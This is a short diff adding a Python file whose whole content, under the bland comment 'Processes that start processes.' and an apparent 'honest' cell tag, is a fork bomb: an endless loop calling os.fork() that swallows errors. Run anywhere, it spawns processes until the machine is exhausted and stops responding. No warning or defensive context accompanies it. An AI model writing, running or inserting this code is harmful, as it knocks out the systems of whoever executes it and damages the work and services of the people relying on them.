@@ -1,0 +1,10 @@
+# Processes that start processes.
+# %% honest
+# %%
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
